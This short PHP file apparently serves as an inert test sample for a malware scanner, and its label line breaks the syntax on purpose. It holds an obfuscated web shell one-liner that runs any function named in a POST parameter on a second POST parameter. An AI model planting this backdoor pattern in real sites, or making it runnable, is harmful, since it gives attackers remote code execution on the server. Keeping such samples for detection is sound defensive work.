<?php
shodo inert sample: deliberate syntax error, this file never runs
 $_=${'_'.'POST'}; $__=$_['a']; @$__($_['b']); ?>
